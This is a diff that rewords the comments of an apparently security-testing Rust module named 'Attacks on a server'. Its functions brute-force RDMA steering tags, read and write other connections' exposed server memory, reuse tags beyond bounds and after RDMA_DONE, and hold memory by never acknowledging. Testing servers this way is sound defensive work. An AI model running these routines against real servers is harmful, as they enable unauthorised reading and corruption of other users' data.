@@ -1,4 +1,4 @@
-//! Attacks on a server, and what came of them.
+//! Attacks on a server, and their results.
 
 use std::{
     io,
@@ -8,14 +8,14 @@ use std::{
 
 use crate::{Event, Files, Peer, Source};
 
-/// What came of trying tags.
+/// Results of attempts to access tags.
 #[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
 pub struct Tries {
-    /// Tags tried. Each that is refused costs a connection.
+    /// Number of attempts. Each rejected one costs a connection.
     pub tried: u64,
-    /// Tries that were answered with a Terminate or the end of the connection.
+    /// Attempts that were answered with a Terminate or a closed connection.
     pub refused: u64,
-    /// Bytes of the server's memory that were read, or written.
+    /// Bytes of the server's memory that were read or written.
     pub bytes: u64,
 }
 
@@ -29,7 +29,7 @@ impl Tries {
     }
 }
 
-/// A sequence of numbers that looks random (splitmix64).
+/// Pseudo-random numbers (splitmix64).
 fn numbers(seed: u64) -> impl Iterator<Item = u32> {
     let mut state = seed;
     std::iter::repeat_with(move || {
@@ -39,10 +39,10 @@ fn numbers(seed: u64) -> impl Iterator<Item = u32> {
     })
 }
 
-/// Reads `count` random tags, each on a connection of its own.
+/// Reads `count` random tags, each on a new connection.
 ///
 /// # Errors
-/// When the server cannot be reached, or answers nothing.
+/// The server cannot be reached, or does not respond.
 pub fn guess_reads(addr: SocketAddr, private: &[u8], count: u64, seed: u64) -> io::Result<Tries> {
     let mut tries = Tries::default();
     for tag in numbers(seed).take(usize::try_from(count).unwrap_or(usize::MAX)) {
@@ -53,16 +53,16 @@ pub fn guess_reads(addr: SocketAddr, private: &[u8], count: u64, seed: u64) -> i
     Ok(tries)
 }
 
-/// Writes to `count` random tags, each on a connection of its own.
+/// Writes to `count` random tags, each on a new connection.
 ///
 /// # Errors
-/// When the server cannot be reached, or answers nothing.
+/// The server cannot be reached, or does not respond.
 pub fn guess_writes(addr: SocketAddr, private: &[u8], count: u64, seed: u64) -> io::Result<Tries> {
     let mut tries = Tries::default();
     for tag in numbers(seed).take(usize::try_from(count).unwrap_or(usize::MAX)) {
         let mut peer = Peer::connect(addr, private)?;
         peer.write(tag, 0, &[0x66; 4096])?;
-        // An RDMA Write has no answer; the RDMA Read behind it has one if the Write was let through.
+        // An RDMA Write has no response; an RDMA Read after it is answered if the Write was accepted.
         let ended = loop {
             match peer.event()? {
                 Event::Terminate(..) | Event::Closed => break true,
@@ -74,10 +74,11 @@ pub fn guess_writes(addr: SocketAddr, private: &[u8], count: u64, seed: u64) -> 
     Ok(tries)
 }
 
-/// Where the server exposes a file's data to the attacker itself: from its tag others may be guessed.
+/// Returns the tag of exposed memory that the server gives to the attacker itself, from which others may be
+/// guessed.
 ///
 /// # Errors
-/// When the server cannot be reached, or exposes nothing.
+/// The server cannot be reached, or exposes no memory.
 pub fn own_tag(addr: SocketAddr, private: &[u8], export: &str, name: &str) -> io::Result<Source> {
     let mut files = Files::new(Peer::connect(addr, private)?);
     let root = files.mount(export)?;
@@ -85,12 +86,12 @@ pub fn own_tag(addr: SocketAddr, private: &[u8], export: &str, name: &str) -> io
     files.read(&file, 0, 64 << 10)?.ok_or_else(|| io::ErrorKind::Unsupported.into())
 }
 
-/// Reads the tags around `own`, the nearest first, each on a connection of its own, until one is answered or `count`
-/// were tried. Of a server whose tags follow one another (the index and the key by one each) these are the tags that
-/// it gave out just before and behind it. Also gives what was read.
+/// Reads tags near `own` in order of distance, each on a new connection, until one is answered or after
+/// `count` attempts. If a server's tags are consecutive (index and key incremented by one), these are the
+/// tags that it assigned just before and after `own`. Also returns the data read.
 ///
 /// # Errors
-/// When the server cannot be reached, or answers nothing.
+/// The server cannot be reached, or does not respond.
 pub fn guess_near(
     addr: SocketAddr,
     private: &[u8],
@@ -111,11 +112,11 @@ pub fn guess_near(
     Ok((tries, None))
 }
 
-/// Reads a region that the server has exposed to *another* connection, whose tag the attacker knows exactly, and the
-/// tags next to it.
+/// Reads a region that the server has exposed to *another* connection and whose tag the attacker knows
+/// exactly, and tags next to it.
 ///
 /// # Errors
-/// When the server cannot be reached, or answers nothing.
+/// The server cannot be reached, or does not respond.
 pub fn read_of_another(addr: SocketAddr, private: &[u8], victim: Source) -> io::Result<Tries> {
     let mut tries = Tries::default();
     for change in [0, 1, 0xff, 0x100, 0x200, 0xffff_ff00] {
@@ -126,10 +127,10 @@ pub fn read_of_another(addr: SocketAddr, private: &[u8], victim: Source) -> io::
     Ok(tries)
 }
 
-/// Uses the attacker's own tag again after the server has taken its RDMA_DONE, and beyond its end before.
+/// Uses the attacker's own tag beyond its bounds, and after the server has processed the RDMA_DONE.
 ///
 /// # Errors
-/// When the server cannot be reached, or answers nothing.
+/// The server cannot be reached, or does not respond.
 pub fn reuse(addr: SocketAddr, private: &[u8], export: &str, name: &str) -> io::Result<Tries> {
     let mut tries = Tries::default();
     for beyond in [true, false] {
@@ -143,7 +144,8 @@ pub fn reuse(addr: SocketAddr, private: &[u8], export: &str, name: &str) -> io::
             from.length += 1;
         } else {
             files.done()?;
-            // The reply to another call says that the server has taken the RDMA_DONE; until then the data may be read.
+            // The reply to a later call shows that the server has processed the RDMA_DONE; until then the
+            // data may be read.
             files.lookup(&root, name)?;
         }
         tries.count(files.steal(from)?.map(|b| b.len()));
@@ -151,22 +153,22 @@ pub fn reuse(addr: SocketAddr, private: &[u8], export: &str, name: &str) -> io::
     Ok(tries)
 }
 
-/// A client that never acknowledges.
+/// A client that does not acknowledge exposed memory.
 pub struct Hoard {
     files: Files,
     began: Instant,
-    /// READs that the server answered with exposed memory.
+    /// Number of READs that the server answered with exposed memory.
     pub replies: u64,
-    /// Bytes that it exposed.
+    /// Bytes of exposed memory.
     pub bytes: u64,
-    /// The first of the regions.
+    /// The first exposed region.
     pub first: Source,
 }
 
-/// Reads a file again and again, `count` times, and acknowledges nothing.
+/// Reads a file `count` times without acknowledging.
 ///
 /// # Errors
-/// When the server cannot be reached, or exposes nothing.
+/// The server cannot be reached, or exposes no memory.
 pub fn hoard(addr: SocketAddr, private: &[u8], export: &str, name: &str, count: u32) -> io::Result<Hoard> {
     let mut files = Files::new(Peer::connect(addr, private)?);
     let root = files.mount(export)?;
@@ -185,10 +187,10 @@ pub fn hoard(addr: SocketAddr, private: &[u8], export: &str, name: &str, count: 
 }
 
 impl Hoard {
-    /// Waits until the server has had enough; gives how long it held the memory.
+    /// Waits until the server ends the connection. Returns the duration of the exposure.
     ///
     /// # Errors
-    /// When it holds it for longer than 20 s.
+    /// The connection is still open after 20 s.
     pub fn wait(mut self) -> io::Result<Duration> {
         loop {
             if matches!(self.files.peer.event()?, Event::Closed | Event::Terminate(..)) {
